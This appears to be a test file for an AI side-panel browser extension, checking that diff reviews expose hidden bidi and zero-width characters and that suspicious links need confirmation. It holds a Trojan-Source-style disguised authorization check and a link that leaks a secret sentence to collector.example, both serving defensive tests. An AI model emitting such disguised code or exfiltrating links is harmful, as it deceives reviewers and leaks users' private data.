// Trust details of the real side panel (issue 11, the smaller items): an
// editor review draws invisible and bidi characters as named marks; a link in
// an answer whose destination is long or hidden opens only after a dialog
// showed its full address (keyboard alone, axe-clean in both themes); the
// About dialog asks the worker whether storage is limited to the extension's
// own pages (the notice for a browser that cannot is tested natively; see the
// test for why removing setAccessLevel from the real worker is not done here).
//
// Everything goes through public seams: worker messages from the control
// page, the scripted model endpoint and the panel's DOM.

import { it } from 'node:test';
import assert from 'node:assert/strict';
import { forEachBuild } from './suite.mjs';
import { poll } from './harness.mjs';
import { ModelEndpoint, step } from '../fixtures/model-endpoint.mjs';
import { openPanel, send, useFixtureModel } from './panel-render.mjs';
import { assertAccessible, enableKeyboard, expectFocusOn, isFocused, press, tabTo } from './a11y.mjs';

const projectOf = url => new URL(url).pathname.split('/')[2];

const SECRET = 'The%20thesis%20draft%20says%20the%20results%20are%20not%20public%20yet';
const LEAKY = `https://collector.example/c?d=${SECRET}`;

/** The worker's SESSION_STORAGE_STATUS once its start-up sequence has run. */
function settledStatus(h) {
  return poll(async () => {
    const answer = await h.request('SESSION_STORAGE_STATUS', {});
    return answer.storageAccess?.state === 'pending' ? null : answer;
  }, { message: 'the start-up sequence to record the access level' });
}

forEachBuild('panel trust', get => {
  const endpoint = new ModelEndpoint();
  let routed = false;
  const harness = () => {
    const h = get();
    if (!routed) {
      h.useModelEndpoint(endpoint);
      h.addRoute(url => url.startsWith('https://collector.example/'),
        route => route.fulfill({ status: 200, contentType: 'text/plain', body: 'collected' }));
      routed = true;
    }
    return h;
  };

  it('an editor review draws invisible and bidi characters as named marks, never as themselves', async () => {
    const h = harness();
    let release = null;
    endpoint.setScript(() => new Promise(resolve => {
      release = () => resolve([step.content('Held answer'), step.finish('stop')]);
    }));
    await useFixtureModel(h, endpoint);
    const { fixture, panel } = await openPanel(h);
    const projectId = projectOf(fixture.url);
    await send(panel, 'Change the check');
    await endpoint.waitForRequests(1);
    const [meta] = await h.request('SESSION_LIST', { projectId });
    const runId = await poll(async () => (await h.request('AI_RUN_STATUS', { projectId, sessionId: meta.id }))[0]?.runId,
      { message: 'the active run' });
    // Sent by the service worker itself: the panel takes broadcasts only
    // from the worker's script (the sender policy).
    const broadcast = async (type, payload) => (await h.worker()).evaluate(
      message => chrome.runtime.sendMessage(message).catch(() => null), { type, runId, payload });
    const hidden = 'if (role === "user\u202E \u2066// admin\u2069\u2066") ok\u200B();';
    const preview = {
      kind: 'unified-diff', fileLabel: 'main.typ', additions: 1, deletions: 1,
      hunks: [{ oldStart: 3, oldLines: 1, newStart: 3, newLines: 1, rows: [
        { kind: 'delete', oldLine: 3, newLine: null, text: 'if (role === "admin") ok();' },
        { kind: 'insert', oldLine: null, newLine: 3, text: hidden },
      ] }],
    };
    const args = { start_line: 3, end_line: 3, new_content: hidden };
    await broadcast('AI_TOOL_CALLS', { calls: [{ id: 'call-marks', name: 'replace_lines', args }] });
    await broadcast('AI_TOOL_APPROVAL_REQUIRED', {
      callId: 'call-marks', name: 'replace_lines', identity: 'builtin:replace_lines', effect: 'editor-write',
      destination: 'main.typ in the Typst editor', arguments: JSON.stringify(args), argumentChars: JSON.stringify(args).length,
      argumentsTruncated: false, preview,
    });
    await panel.waitFor(() => !!document.querySelector('.tool-block[data-call-id="call-marks"] .edit-diff'),
      undefined, { message: 'the editor review banner' });
    const drawn = await panel.evaluate(() => {
      const code = document.querySelector('.tool-block[data-call-id="call-marks"] .edit-diff-insert .edit-diff-code');
      return {
        marks: [...code.querySelectorAll('.edit-diff-mark')].map(mark => [mark.textContent, mark.getAttribute('aria-label'),
          mark.getAttribute('role'), mark.classList.contains('edit-diff-mark-bidi'), getComputedStyle(mark).borderTopStyle]),
        text: [...code.childNodes].filter(node => node.nodeType === Node.TEXT_NODE).map(node => node.data).join(''),
        hiddenLeft: /[\u00AD\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]/.test(code.textContent),
      };
    });
    assert.deepEqual(drawn.marks, [
      ['U+202E', 'text direction control U+202E', 'img', true, 'solid'],
      ['U+2066', 'text direction control U+2066', 'img', true, 'solid'],
      ['U+2069', 'text direction control U+2069', 'img', true, 'solid'],
      ['U+2066', 'text direction control U+2066', 'img', true, 'solid'],
      ['U+200B', 'invisible character U+200B', 'img', false, 'solid'],
    ]);
    assert.equal(drawn.text, 'if (role === "user // admin") ok();');
    assert.equal(drawn.hiddenLeft, false, 'no invisible or bidi character is drawn as text');
    await assertAccessible(panel, 'an editor review with invisible and bidi marks');
    release?.();
    await panel.close();
    await fixture.page.close();
  });

  it('a link with a long query string opens only after its full address was shown (keyboard alone)', async () => {
    const h = harness();
    const url = h.fixtureUrl({ cm: 'latest' });
    const projectId = projectOf(url);
    const session = await h.request('SESSION_CREATE', { projectId, name: 'Links' });
    const answer = `Read [the notes](${LEAKY}) first.`;
    await h.request('SESSION_UPDATE', {
      sessionId: session.id,
      messages: [
        { role: 'user', content: 'Where are the notes?' },
        { role: 'assistant', content: answer, responseStatus: 'complete', segments: [{ type: 'text', content: answer }] },
      ],
    });
    const fixture = await h.openFixtureTab({ cm: 'latest', project: projectId });
    await h.activateTab(fixture.tabId);
    const { windowId } = await h.tabInfo(fixture.tabId);
    const panel = await h.openSidePanel({ windowId });
    await panel.waitForReady();
    const link = '#messages .msg-assistant .msg-content a';
    await panel.waitFor(selector => !!document.querySelector(selector), link, { message: 'the stored answer\'s link' });
    await enableKeyboard(panel);
    const opened = [];
    const onPage = page => opened.push(page);
    h.context.on('page', onPage);
    try {
      await tabTo(panel, link);
      await press(panel, 'Enter');
      await panel.waitFor(() => !document.getElementById('link-dialog-layer')?.hidden, undefined,
        { message: 'the link dialog' });
      await expectFocusOn(panel, '#link-dialog-cancel', 'Cancel has the focus');
      const dialog = await panel.evaluate(() => ({
        title: document.getElementById('link-dialog-title')?.textContent,
        reasons: document.getElementById('link-dialog-subtitle')?.textContent,
        destination: document.getElementById('link-dialog-destination')?.textContent,
        site: document.querySelector('.link-dialog-site strong')?.textContent,
        modal: document.querySelector('#link-dialog-layer [role="dialog"]')?.getAttribute('aria-modal'),
      }));
      assert.equal(dialog.title, 'Open this link?');
      assert.equal(dialog.destination, LEAKY, 'the whole destination is shown');
      assert.equal(dialog.site, 'collector.example');
      assert.ok(dialog.reasons.includes('characters after'), dialog.reasons);
      assert.ok(dialog.reasons.includes('does not show where it goes'), dialog.reasons);
      assert.equal(dialog.modal, 'true');
      await assertAccessible(panel, 'the link confirmation dialog');
      // Escape: nothing opens, focus returns to the link.
      await press(panel, 'Escape');
      await panel.waitFor(() => document.getElementById('link-dialog-layer')?.hidden === true, undefined,
        { message: 'the dialog to close' });
      assert.equal(await isFocused(panel, link), true, 'focus back on the link');
      await new Promise(resolve => { setTimeout(resolve, 500); });
      assert.equal(opened.length, 0, 'no tab opened before confirmation');
      // Enter again, Tab to Open link, Enter: the address opens in a new tab.
      await press(panel, 'Enter');
      await expectFocusOn(panel, '#link-dialog-cancel', 'the dialog opened again');
      await press(panel, 'Tab');
      assert.equal(await isFocused(panel, '#link-dialog-confirm'), true, 'Tab to Open link');
      await press(panel, 'Enter');
      await poll(() => opened.length === 1, { message: 'the confirmed link to open a tab' });
      await poll(() => opened[0].url() === LEAKY, { message: `the tab to load ${LEAKY}` });
      assert.equal(await panel.evaluate(() => document.getElementById('link-dialog-layer')?.hidden), true);
    } finally {
      h.context.off('page', onPage);
      for (const page of opened) await page.close().catch(() => {});
    }
    await panel.close();
    await fixture.page.close();
  });

  it('the About dialog asks the worker about storage protection and stays quiet when it is in place', async () => {
    // The other side (a browser without chrome.storage.local.setAccessLevel)
    // is covered natively: removing it before the worker's script runs needs
    // browser-level auto-attach, which Chromium allows only in the flattened
    // protocol, and Playwright's CDP sessions cannot address flattened child
    // sessions; attaching when the target is announced lost every race.
    const h = harness();
    assert.equal((await settledStatus(h)).storageAccess.state, 'trusted-contexts');
    await useFixtureModel(h, endpoint);
    const { fixture, panel } = await openPanel(h);
    await enableKeyboard(panel);
    await tabTo(panel, '#about-icon-button');
    await press(panel, 'Enter');
    await expectFocusOn(panel, '#about-dialog-close', 'the About dialog opened');
    // The dialog asked; the answer says storage is limited, so no notice.
    await new Promise(resolve => { setTimeout(resolve, 500); });
    assert.deepEqual(await panel.evaluate(() => {
      const notice = document.getElementById('about-storage-access');
      return { exists: !!notice, hidden: notice?.hidden, text: notice?.textContent };
    }), { exists: true, hidden: true, text: '' });
    await assertAccessible(panel, 'the About dialog');
    await press(panel, 'Escape');
    await panel.close();
    await fixture.page.close();
  });
});
